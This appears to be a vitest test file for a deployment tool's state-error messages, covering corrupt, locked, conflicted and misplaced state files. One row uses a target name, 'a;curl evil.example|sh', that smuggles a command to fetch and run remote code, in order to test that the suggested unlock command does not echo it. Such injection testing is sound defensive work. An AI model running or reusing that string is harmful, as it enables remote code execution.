import type { LockInfo } from "../../src/state/backend.ts";
import { describe, expect, it, test } from "vitest";
import { type StateProblem, explainProblem, explainTakeover } from "../../src/state/problem.ts";

const key = { stage: "staging", target: "shop" };
const where = ".tasc/state/staging/shop.json";
const holder: LockInfo = {
  id: "id-1",
  who: "ci@runner-7",
  since: "2026-01-02T03:04:05.000Z",
  why: "tasc apply --auto-approve",
  folder: "/builds/shop",
  job: "https://ci.example.com/jobs/7",
  process: { host: "runner-7", pid: 4711 },
};

/** Each problem, and the words its message must contain: what is wrong, and a way out. */
const rows: readonly (readonly [StateProblem, readonly string[]])[] = [
  [
    { kind: "corrupt", where, reason: "it is no JSON" },
    [where, "it is no JSON", "Restore it from git"],
  ],
  [{ kind: "conflicted", where, line: 12 }, [`${where}:12`, "Keep one line for each binding"]],
  [
    { kind: "newer", where, version: 3, understood: 1 },
    ["version 3", "up to 1", "Use the version"],
  ],
  [
    { kind: "misplaced", where, expected: key, found: { stage: "production", target: "shop" } },
    ['stage "staging"', 'stage "production"', "Put the right document there"],
  ],
  [
    { kind: "other-service", where, expected: "https://a", found: "https://b" },
    ["https://a", "https://b", "service.baseUrl"],
  ],
  [
    { kind: "stranded-journal", where, journal: "shop.journal" },
    ["shop.journal", "git stash", "remove shop.journal"],
  ],
  [
    { kind: "locked", key, holder },
    [
      "ci@runner-7",
      "process 4711",
      "/builds/shop",
      "2026-01-02T03:04:05.000Z",
      "tasc apply --auto-approve",
      "https://ci.example.com/jobs/7",
      "--lock-timeout",
      `\n  tasc state unlock shop ${holder.id} --stage staging`,
    ],
  ],
  [{ kind: "locked", key }, ["does not say who holds it", "tasc state unlock shop"]],
  [
    {
      kind: "locked",
      key: { ...key, target: "a;curl evil.example|sh" },
      holder: { ...holder, id: "$(x)" },
    },
    ["\n  tasc state unlock TARGET --stage staging"],
  ],
  [{ kind: "lock-lost", key, reason: "its file is gone" }, ["Its file is gone.", "Run tasc again"]],
  [{ kind: "changed", where }, [where, "Run tasc again"]],
  [{ kind: "failed", where, reason: "EACCES: permission denied" }, [where, "EACCES", "Check that"]],
  [{ kind: "misconfigured", reason: "state.url is missing" }, ["state.url is missing."]],
];

describe("a problem with state", () => {
  test.each(rows)("%j is explained", (problem, words) => {
    const { severity, code, summary, detail } = explainProblem(problem);
    expect([severity, code]).toEqual(["error", `state-${problem.kind}`]);
    expect(summary).toMatch(/^[A-Z].*[^.]$/);
    expect(summary.includes("\n")).toBe(false);
    for (const word of words) expect(`${summary} ${detail}`).toContain(word);
  });

  it("is a warning that names the former holder if a lock was taken over", () => {
    const { severity, summary, detail } = explainTakeover(key, holder);
    expect(severity).toBe("warning");
    expect(summary).toContain('target "shop"');
    expect(detail).toContain("ci@runner-7, process 4711");
  });
});
